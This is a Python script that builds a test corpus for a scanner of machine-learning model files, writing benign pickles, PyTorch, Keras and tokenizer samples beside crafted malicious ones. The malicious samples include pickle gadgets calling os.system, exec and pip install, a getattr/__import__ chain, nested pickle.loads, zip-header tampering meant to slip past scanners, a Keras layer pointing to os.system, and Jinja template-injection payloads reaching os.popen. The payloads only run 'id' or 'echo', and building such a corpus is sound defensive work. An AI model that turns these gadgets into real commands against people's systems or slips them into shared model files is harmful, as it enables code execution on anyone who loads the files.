#!/usr/bin/env python3
"""Generates the scanner's test corpus (stdlib only; its small outputs are committed, so the tests
never need python).

    python3 make_scan_corpus.py OUTDIR

Benign controls are what real tools write: python's pickle module at every protocol, and a
PyTorch-style checkpoint assembled by hand (no torch here) -- a zip of archive/data.pkl (a
protocol-2 state-dict pickle: OrderedDict + torch._utils._rebuild_tensor_v2 + torch.FloatStorage
persistent ids), archive/data/<key> storages, version and byteorder records -- and the legacy
(pre-1.6) format. Attack files cover the bypass classes of SCANNING.md. Nothing here is harmful
to load in the sense that every "payload" is `echo`/`id`; but never unpickle these files anyway.
"""
import collections
import io
import json
import os
import pickle
import struct
import sys
import types
import zipfile
import zlib

OUT = sys.argv[1] if len(sys.argv) > 1 else "corpus"


def fake_module(name, **attrs):
    """Registers a stand-in module so pickle writes GLOBAL <name> <attr> without the real one."""
    mod = types.ModuleType(name)
    for k, v in attrs.items():
        if callable(v) and not isinstance(v, type):
            v.__module__ = name
            v.__qualname__ = k
            v.__name__ = k
        elif isinstance(v, type):
            v.__module__ = name
            v.__qualname__ = k
        setattr(mod, k, v)
    sys.modules[name] = mod
    parent, _, child = name.rpartition(".")
    if parent and parent in sys.modules:
        setattr(sys.modules[parent], child, mod)
    return mod


# --- stand-ins for torch --------------------------------------------------------------------
def _rebuild_tensor_v2(*a):
    raise RuntimeError("stand-in")


def _rebuild_parameter(*a):
    raise RuntimeError("stand-in")


FloatStorage = type("FloatStorage", (), {})
torch = fake_module("torch", FloatStorage=FloatStorage)
fake_module("torch._utils", _rebuild_tensor_v2=_rebuild_tensor_v2, _rebuild_parameter=_rebuild_parameter)


class Tensor:
    def __init__(self, key, shape, requires_grad=False):
        self.key, self.shape, self.requires_grad = key, shape, requires_grad

    def __reduce__(self):
        n = 1
        for d in self.shape:
            n *= d
        stride = []
        acc = 1
        for d in reversed(self.shape):
            stride.insert(0, acc)
            acc *= d
        storage = StorageRef(self.key, n)
        return (_rebuild_tensor_v2,
                (storage, 0, tuple(self.shape), tuple(stride), self.requires_grad,
                 collections.OrderedDict()))


class StorageRef:
    def __init__(self, key, numel):
        self.key, self.numel = key, numel


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, StorageRef):
            return ("storage", FloatStorage, obj.key, "cpu", obj.numel)
        return None


def state_dict(n_tensors=4, shapes=None):
    sd = collections.OrderedDict()
    shapes = shapes or [(4, 3), (4,), (2, 4), (2,)]
    for i in range(n_tensors):
        sd[f"layer{i // 2}.{'weight' if i % 2 == 0 else 'bias'}"] = Tensor(str(i), shapes[i % len(shapes)])
    return sd


def torch_pickle(obj):
    buf = io.BytesIO()
    TorchPickler(buf, protocol=2).dump(obj)
    return buf.getvalue()


def torch_zip(path, data_pkl, n_storages=4, extra=None, prefix="archive"):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", data_pkl)
        z.writestr(f"{prefix}/byteorder", "little")
        for i in range(n_storages):
            z.writestr(f"{prefix}/data/{i}", struct.pack("<12f", *([0.5] * 12)))
        for name, content in (extra or {}).items():
            z.writestr(name, content)
        z.writestr(f"{prefix}/version", "3\n")
        z.writestr(f"{prefix}/.data/serialization_id", "1234567890123456789012345678901234567890")


def write(rel, data):
    p = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


# --- benign ---------------------------------------------------------------------------------
plain = {"name": "weights", "values": [1, 2.5, -3, 10**30], "blob": b"\x00\x01", "flags": (True, None),
         "s": {1, 2}, "fs": frozenset([3]), "ba": bytearray(b"ab"), "c": complex(1, 2),
         "od": collections.OrderedDict(a=1), "sl": slice(1, 2)}
for proto in range(6):
    write(f"benign/plain_p{proto}.pkl", pickle.dumps(plain, protocol=proto))
write("benign/list_p0", pickle.dumps([1, "two", 3.0], protocol=0))
try:  # numpy is optional: its pickles are committed, so the tests never need it
    import numpy as np
    arrays = {"w": np.arange(6, dtype=np.float32).reshape(2, 3), "step": np.int64(5),
              "lr": np.float32(0.1), "mask": np.array([True, False])}
    for proto in (2, 4, 5):
        write(f"benign/numpy_arrays_p{proto}.pkl", pickle.dumps(arrays, protocol=proto))
except ImportError:
    print("numpy not installed: numpy pickles not regenerated", file=sys.stderr)

torch_zip(os.path.join(OUT, "benign/pytorch_model.bin"), torch_pickle(state_dict()))
# A folder as Hugging Face ships it.
torch_zip(os.path.join(OUT, "benign/hf_model/pytorch_model.bin"), torch_pickle(state_dict()))
write("benign/hf_model/config.json", json.dumps({
    "architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 8,
    "num_attention_heads": 2, "torch_dtype": "float32", "rope_theta": 500000.0}, indent=2))
LLAMA3 = ("{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = "
          "'<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim"
          " + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}"
          "{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant"
          "<|end_header_id|>\\n\\n' }}{% endif %}")
CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content']"
          " + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}"
          "{% endif %}")
MISTRAL = ("{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != "
           "(loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate "
           "user/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}"
           "{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}"
           "{{ message['content'] + eos_token}}{% else %}{{ raise_exception('Only user and assistant "
           "roles are supported!') }}{% endif %}{% endfor %}")
QWEN_TOOLS = ("{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}"
              "{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}"
              "{%- if ns.multi_step_tool and message.role == \"user\" and not(message.content.startswith"
              "('<tool_response>') and message.content.endswith('</tool_response>')) %}"
              "{%- set ns.multi_step_tool = false %}{%- set ns.last_query_index = index %}{%- endif %}"
              "{%- endfor %}{{- '<|im_start|>' + message.role + '\\n' + message.content | tojson }}")
write("benign/hf_model/tokenizer_config.json", json.dumps({
    "bos_token": "<|begin_of_text|>", "eos_token": "<|eot_id|>", "chat_template": LLAMA3}, indent=2))
write("benign/hf_model/generation_config.json", json.dumps({"do_sample": True, "temperature": 0.6}))
write("benign/hf_model/README.md", "# tiny model\n\ncopyright (c) nobody\n")
write("benign/chatml/tokenizer_config.json", json.dumps({"chat_template": CHATML}))
write("benign/mistral/tokenizer_config.json", json.dumps({"chat_template": [
    {"name": "default", "template": MISTRAL}, {"name": "tool_use", "template": QWEN_TOOLS}]}))
write("benign/chatml/chat_template.jinja", CHATML)

# Legacy (pre-1.6) format: magic, protocol version, sys info, object, storage keys, raw storages.
legacy = io.BytesIO()
pickle.dump(0x1950A86A20F9469CFC6C, legacy, protocol=2)
pickle.dump(1001, legacy, protocol=2)
pickle.dump({"protocol_version": 1001, "little_endian": True,
             "type_sizes": {"short": 2, "int": 4, "long": 4}}, legacy, protocol=2)


class LegacyPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, StorageRef):
            return ("storage", FloatStorage, obj.key, "cpu", obj.numel, None)
        return None


LegacyPickler(legacy, protocol=2).dump(state_dict())
pickle.dump(["0", "1", "2", "3"], legacy, protocol=2)
for i in range(4):
    legacy.write(struct.pack("<q", 12) + struct.pack("<12f", *([0.25] * 12)))
write("benign/legacy.pt", legacy.getvalue())


# --- malicious ------------------------------------------------------------------------------
class Call:
    """pickles as func(*args)"""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return (self.func, self.args)


def evil(func, *args, proto=2):
    return pickle.dumps(Call(func, *args), protocol=proto)


def pip_main(*a):
    pass


def collect_env_run(*a):
    pass


def runstring(*a):
    pass


fake_module("pip", main=pip_main)
fake_module("torch.utils", )
fake_module("torch.utils.collect_env", run=collect_env_run)
fake_module("numpy", )
fake_module("numpy.testing")
fake_module("numpy.testing._private")
fake_module("numpy.testing._private.utils", runstring=runstring)

write("malicious/os_system.pkl", evil(os.system, "echo pwned"))
write("malicious/pip_main.pkl", evil(pip_main, ["install", "evil-package"]))
write("malicious/collect_env_run.pkl", evil(collect_env_run, "id"))
write("malicious/numpy_runstring.pkl", evil(runstring, "import os; os.system('id')", {}))
code = b"c\x00\x00\x00"  # not a real code object: the scanner never looks inside
real_types = sys.modules["types"]


def FunctionType(*a):
    pass


fake_module("types", FunctionType=FunctionType)
write("malicious/function_type_marshal.pkl",
      pickle.dumps(Call(FunctionType, Call(__import__("marshal").loads, code), {}), protocol=2))
sys.modules["types"] = real_types
write("malicious/builtins_exec_p0", evil(exec, "import os", proto=0))
def op_global(m, n):
    return b"c" + m + b"\n" + n + b"\n"


def op_str(s):
    return b"X" + struct.pack("<I", len(s)) + s


# getattr(__import__('os'), 'system')('id'): the call target is a call result (a gadget chain).
write("malicious/getattr_chain.pkl", b"\x80\x02" + op_global(b"builtins", b"getattr")
      + op_global(b"builtins", b"__import__") + op_str(b"os") + b"\x85R" + op_str(b"system")
      + b"\x86R" + op_str(b"id") + b"\x85R.")
inner = evil(os.system, "id")
write("malicious/nested_loads.pkl", evil(pickle.loads, inner, proto=4))
write("malicious/nested_loads_p2.pkl", evil(pickle.loads, inner, proto=2))  # bytes via _codecs.encode
write("malicious/two_streams.pkl", pickle.dumps({"ok": 1}, protocol=2) + inner)
write("malicious/junk_after_stop.pkl", pickle.dumps({"ok": 1}, protocol=2) + b"\x00\x01garbage")
write("malicious/disguised.txt", evil(os.system, "id", proto=0))

torch_zip(os.path.join(OUT, "malicious/torch_os_system.pt"), evil(os.system, "id"))


def patch_zip(src, dst, fn):
    b = bytearray(open(src, "rb").read())
    fn(b)
    write(dst, bytes(b))


def cd_entry(b, name):
    """Offset of the central directory entry for name."""
    i = b.rfind(b"PK\x05\x06")
    cd = struct.unpack_from("<I", b, i + 16)[0]
    while b[cd:cd + 4] == b"PK\x01\x02":
        n, e, c = struct.unpack_from("<HHH", b, cd + 28)
        if b[cd + 46:cd + 46 + n] == name:
            return cd
        cd += 46 + n + e + c
    raise KeyError(name)


def local_entry(b, name):
    cd = cd_entry(b, name)
    return struct.unpack_from("<I", b, cd + 42)[0]


evil_zip = os.path.join(OUT, "malicious/torch_os_system.pt")


def set_encrypted(b):
    for off, flag_at in ((cd_entry(b, b"archive/data.pkl"), 8), (local_entry(b, b"archive/data.pkl"), 6)):
        struct.pack_into("<H", b, off + flag_at, struct.unpack_from("<H", b, off + flag_at)[0] | 1)


def break_crc(b):
    cd = cd_entry(b, b"archive/data.pkl")
    lo = local_entry(b, b"archive/data.pkl")
    crc = struct.unpack_from("<I", b, cd + 16)[0] ^ 0xFFFF
    struct.pack_into("<I", b, cd + 16, crc)
    struct.pack_into("<I", b, lo + 14, crc)


def rename_local(b):
    lo = local_entry(b, b"archive/data.pkl")
    n = struct.unpack_from("<H", b, lo + 26)[0]
    b[lo + 30:lo + 30 + n] = b"archive/safe.pkl"


patch_zip(evil_zip, "malicious/torch_encrypted_flag.pt", set_encrypted)
patch_zip(evil_zip, "malicious/torch_crc_error.pt", break_crc)
patch_zip(evil_zip, "malicious/torch_local_name_mismatch.pt", rename_local)

# TorchScript: code/ members beside data.pkl and constants.pkl.
os.makedirs(os.path.join(OUT, "malicious"), exist_ok=True)
os.makedirs(os.path.join(OUT, "benign"), exist_ok=True)
with zipfile.ZipFile(os.path.join(OUT, "malicious/torchscript.pt"), "w") as z:
    z.writestr("model/data.pkl", torch_pickle(state_dict(2)))
    z.writestr("model/code/__torch__/model.py", "def forward(self, x):\n  return x\n")
    z.writestr("model/constants.pkl", pickle.dumps((), protocol=2))
    z.writestr("model/version", "1\n")

# Legacy format with a payload in the object pickle.
legacy_evil = io.BytesIO()
for obj in (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001}):
    pickle.dump(obj, legacy_evil, protocol=2)
legacy_evil.write(evil(os.system, "id"))
pickle.dump([], legacy_evil, protocol=2)
write("malicious/legacy_os_system.pt", legacy_evil.getvalue())

# Keras v3 archive with a Lambda layer and a module outside keras.
keras_config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [
    {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2}},
    {"module": "keras.layers", "class_name": "Lambda",
     "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}}},
    {"module": "os", "class_name": "system", "config": {}}]}}
with zipfile.ZipFile(os.path.join(OUT, "malicious/lambda.keras"), "w") as z:
    z.writestr("config.json", json.dumps(keras_config))
    z.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
    z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64))
with zipfile.ZipFile(os.path.join(OUT, "benign/dense.keras"), "w") as z:
    z.writestr("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {
        "layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"units": 2}}]}}))
    z.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
    z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64))

# Templates and configs.
SSTI = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
write("malicious/ssti_dunder/tokenizer_config.json", json.dumps({"chat_template": SSTI}))
write("malicious/ssti_escape/chat_template.jinja",
      "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}")
write("malicious/ssti_concat/chat_template.jinja",
      "{% set x = request|attr('__cla' ~ 'ss__') %}{{ cycler.__init__.__globals__.os.popen('id').read() }}")
write("malicious/remote_code/config.json", json.dumps({
    "model_type": "custom", "auto_map": {"AutoModel": "modeling_custom.CustomModel"}}))
write("malicious/remote_code/modeling_custom.py", "import os\nos.system('id')\n")
write("malicious/duplicate_key/config.json", '{"model_type": "llama", "model_type": "custom"}')
